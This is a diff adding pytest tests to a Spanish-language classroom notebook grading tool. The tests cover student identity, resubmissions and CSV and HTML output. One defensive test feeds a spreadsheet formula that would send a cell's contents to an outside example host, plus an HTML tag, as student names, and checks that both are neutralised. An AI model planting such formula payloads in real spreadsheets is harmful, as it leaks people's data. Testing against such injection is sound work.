@@ -7,7 +7,9 @@ from __future__ import annotations
 
 import csv
 import datetime as dt
+import html
 import json
+import shutil
 
 import pytest
 from conftest import NOTEBOOKS, ROOT, load
@@ -221,3 +223,152 @@ def test_the_student_data_the_guide_creates_is_ignored_by_git():
                            cwd=ROOT, capture_output=True, text=True).stdout.splitlines()
     kept = [line.split("\t")[-1] for line in shown if line.startswith("::")]
     assert not kept, f"git would add the students' data: {kept} (add them to .gitignore)"
+
+
+# ------------------------------------------------------- whose grade it is: the copy's origin, paths, the CSV
+
+@pytest.fixture
+def graded_by_file(monkeypatch):
+    """calificar with a stand-in for the kernels: ``points[file name]`` -> each exercise's points (else all 0)."""
+    points = {}
+
+    def graded_as(paths, timeout=None, jobs=1, protect=None, per_path=None, everything=False, **_):
+        return [result(p, {n: points.get(p.name, {}).get(n, 0) for n in per_path[p][1]}, dict(per_path[p][1]))
+                for p in paths]
+
+    monkeypatch.setattr(_cli, "grade_all", graded_as)
+    return points
+
+
+def test_a_later_copy_claiming_another_student_from_another_origin_changes_nothing(tmp_path, capsys,
+                                                                                    graded_by_file):
+    """Classroom names each copy after its student. Federico's later copy with Ana's name and id in its name cell
+    does not replace Ana's grade: it is graded in a row of its own, both rows and the run say so, and --vale is how
+    the teacher says that it counts for Ana after all."""
+    folder = tmp_path / "entregas"
+    ana = handed_in(folder, "03_layernorm", "Ana Pérez", "12.345", "2026-03-10T10:00:00-03:00",
+                    "Ana Pérez - 03_layernorm.ipynb")
+    fede = handed_in(folder, "03_layernorm", "Ana Perez", "12345", "2026-03-11T10:00:00-03:00",
+                     "Federico López - Copia de 03_layernorm.ipynb")
+    graded_by_file.update({ana.name: {"layer_norm": 1, "rms_norm": 1}})
+    out = tmp_path / "notas.csv"
+    assert main(["calificar", str(folder), "--csv", str(out)]) == 0
+    said = capsys.readouterr().out
+    assert said.startswith("ojo, quién es quién: en 1 entrega, la persona de su archivo o su carpeta no es"), said
+    assert f"ojo, {fede.name}: la celda del nombre dice «Ana Perez», pero su archivo es de «Federico López»" in said
+    rows = {r["estudiante"]: r for r in csv.DictReader(out.open(encoding="utf-8-sig"))}
+    assert sorted(rows) == ["Ana Perez (archivo de Federico López)", "Ana Pérez"], rows
+    mine, theirs = rows["Ana Pérez"], rows["Ana Perez (archivo de Federico López)"]
+    assert (mine["total"], mine["archivos"], mine["reentregas"]) == ("2", ana.name, ""), mine
+    assert f"otra entrega con su nombre o su legajo, {fede.name}, viene de «Federico López»" in mine["alertas"]
+    assert (theirs["total"], theirs["archivos"]) == ("0", fede.name), theirs
+    assert "no reemplaza esa nota, va en una fila aparte" in theirs["alertas"]
+    assert f'--vale "{fede.name}"' in theirs["alertas"]
+    # the teacher decides: the copy counts for whom its name cell says, and the other person's is not graded
+    assert main(["calificar", str(folder), "--csv", str(out), "--vale", fede.name]) == 0
+    [row] = list(csv.DictReader(out.open(encoding="utf-8-sig")))
+    assert (row["estudiante"], row["total"], row["archivos"]) == ("Ana Perez", "0", fede.name), row
+    assert f"califiqué la que elegiste con --vale, {fede.name}" in row["reentregas"] and ana.name in row["reentregas"]
+    assert main(["calificar", str(folder), "--csv", str(out), "--vale", "no-existe.ipynb"]) == 2
+    assert "--vale «no-existe.ipynb»: no hay ninguna entrega con esa ruta" in capsys.readouterr().err
+
+
+def test_a_resubmission_from_the_same_origin_still_replaces_the_older(tmp_path):
+    """Ana's folder and her Classroom file name are one person: her later copy is graded, as before."""
+    old = handed_in(tmp_path, "03_layernorm", "Ana Pérez", "7", "2026-03-10T10:00:00-03:00",
+                    "Ana Pérez - 03_layernorm.ipynb")
+    new = handed_in(tmp_path, "03_layernorm", "ana perez", "7", "2026-03-10T11:00:00-03:00",
+                    "Ana/Copia de 03_layernorm (1).ipynb")
+    chosen, rows = rows_of([old, new], {new.name: {"layer_norm": 1, "rms_norm": 1}})
+    assert [s.path for s in chosen] == [new] and len(rows) == 1
+    assert chosen[0].note.startswith("2 entregas de 03_layernorm: califiqué la última, Ana/Copia de 03_layernorm (1)")
+    assert chosen[0].alerts == [] and "|" not in chosen[0].key
+
+
+@pytest.mark.parametrize("rel, who", [("Ana Pérez - 03_layernorm.ipynb", "Ana Pérez"),
+                                      ("Federico López - Copia de 03_layernorm (1).ipynb", "Federico López"),
+                                      ("Ana Pérez/Copia de 03_layernorm.ipynb", "Ana Pérez"),
+                                      ("Tarea 3/Ana de la Fuente/x.ipynb", "Ana de la Fuente"),
+                                      ("Lautaro Paz.ipynb", "Lautaro Paz"),
+                                      ("Copia de 03_layernorm.ipynb", None), ("03_layernorm (1).ipynb", None),
+                                      ("entregas/otro/03_layernorm.ipynb", None), ("a/x (1).ipynb", None),
+                                      ("Carla Gómez 4521 01_ffn.ipynb", None), ("referencia.ipynb", None)])
+def test_the_origin_is_a_persons_name_in_the_file_or_its_folder(rel, who):
+    from pathlib import Path
+
+    from helpers.grading._origin import origin
+    found = origin(Path(rel))
+    assert (found.name if found else None) == who, found
+
+
+@pytest.mark.parametrize("a, b, same", [("Ana", "Ana Pérez", True), ("ana perez", "Ana María PÉREZ", True),
+                                        ("Ana de la Fuente", "Ana Fuente", True), ("Ana Pérez", "Ana Gómez", False),
+                                        ("Federico López", "Ana Pérez", False), ("", "Ana", False)])
+def test_names_compare_folded_word_by_word(a, b, same):
+    from helpers.grading._origin import same_person
+    assert same_person(a, b) is same
+
+
+def test_three_unnamed_copies_in_three_folders_are_three_rows(tmp_path, capsys, no_kernels):
+    """Untouched copies, all «Copia de 03_layernorm.ipynb», one per folder: three students, each row with its
+    path; the summary agrees in number."""
+    folder = tmp_path / "entregas"
+    for who in ("Ana", "Bruno", "Carla"):
+        handed_in(folder / who, "03_layernorm", "", file="Copia de 03_layernorm.ipynb")
+    assert main(["calificar", str(folder), "--csv", str(tmp_path / "notas.csv")]) == 0
+    said = capsys.readouterr().out
+    assert "3 estudiantes, 3 archivos (0 reentregas viejas sin calificar); 3 devoluciones" in said, said
+    rows = list(csv.DictReader((tmp_path / "notas.csv").open(encoding="utf-8-sig")))
+    assert [(r["estudiante"], r["archivos"]) for r in rows] == [
+        (f"(sin nombre: {who}/Copia de 03_layernorm.ipynb)", f"{who}/Copia de 03_layernorm.ipynb")
+        for who in ("Ana", "Bruno", "Carla")], rows
+    assert all(r["alertas"] == "" for r in rows), rows
+    shutil.rmtree(folder / "Bruno")
+    shutil.rmtree(folder / "Carla")
+    assert main(["calificar", str(folder), "--csv", str(tmp_path / "notas.csv")]) == 0
+    assert "1 estudiante, 1 archivo (0 reentregas viejas sin calificar); 1 devolución en" in capsys.readouterr().out
+
+
+def test_a_formula_in_a_name_is_inert_in_the_csv_and_text_in_the_report(tmp_path):
+    """A name cell a spreadsheet would run (CSV injection, OWASP): quoted in notas.csv, so a spreadsheet shows it;
+    points stay numbers, a negative one too; the class report, rebuilt from that CSV, shows the name as written,
+    escaped as HTML."""
+    formula = '=HYPERLINK("https://example.org/?"&D2,"Lautaro Paz")'
+    a = handed_in(tmp_path, "03_layernorm", formula, "-12", file="a.ipynb")
+    b = handed_in(tmp_path, "01_ffn", "<b>Ema</b>", "@3", file="b.ipynb")
+    chosen = grading.latest(grading.collect([a, b], {}))
+    by = {s.path: s for s in chosen}
+    rows = grading.student_rows([by[a], by[b]], [result(a, {"layer_norm": 1, "rms_norm": -0.5},
+                                                        {"layer_norm": 1, "rms_norm": 1}), result(b, {"ffn": 0})])
+    out = tmp_path / "notas.csv"
+    grading.write_csv(rows, {}, out)
+    raw = list(csv.reader(out.open(encoding="utf-8-sig")))
+    header, lines = raw[0], {r[0]: dict(zip(raw[0], r)) for r in raw[1:]}
+    assert set(lines) == {"'" + formula, "<b>Ema</b>"}, lines
+    mine = lines["'" + formula]
+    assert (mine["legajo"], mine["rms_norm"], mine["03_layernorm"], mine["total"]) == ("'-12", "-0,5", "0,5", "0,5")
+    assert lines["<b>Ema</b>"]["legajo"] == "'@3"
+    text_cells = [c for r in raw for i, c in enumerate(r) if header[i] not in ("01_ffn", "03_layernorm", "total",
+                                                                               "de", "ffn", "layer_norm", "rms_norm")]
+    assert not [c for c in text_cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")], text_cells
+    from helpers.grading import _report
+    page = (_report.report_from_csv(out, tmp_path / "informe.html", names=True)[1]).read_text(encoding="utf-8")
+    assert html.escape(formula, quote=True) in page and "&lt;b&gt;Ema&lt;/b&gt;" in page
+    assert "'=HYPERLINK" not in page and "<b>Ema</b>" not in page
+
+
+def test_the_guides_cell_numbers_are_those_of_03s_student_copy():
+    """docs/docente.md quotes two problems as calificar writes them for 03: the numbers are those of the copy a
+    student hands in (armar's, with the name cell), the «Tu turno» of layer_norm and a cell put before rms_norm's
+    check."""
+    import re
+    guide = " ".join((ROOT / "docs" / "docente.md").read_text(encoding="utf-8").split())
+    student = grading.student_copy(load(STEMS["03_layernorm"]), "03_layernorm")
+    first, second = grading.exercises(student)
+    place = grading._notebook.cell_place
+    said = re.findall(r"«(la celda \d+ \([^»]*» de layer_norm\)) falló", guide)
+    assert said == [place(student, first.stub)], said
+    cells = list(student["cells"])
+    cells.insert(second.check, {"cell_type": "code", "metadata": {}, "source": "def roto(:\n", "outputs": []})
+    before = place({**student, "cells": cells}, second.check)
+    assert f"«{before} falló: SyntaxError: invalid syntax (línea 1 de la celda {second.check + 1})»" in guide, before
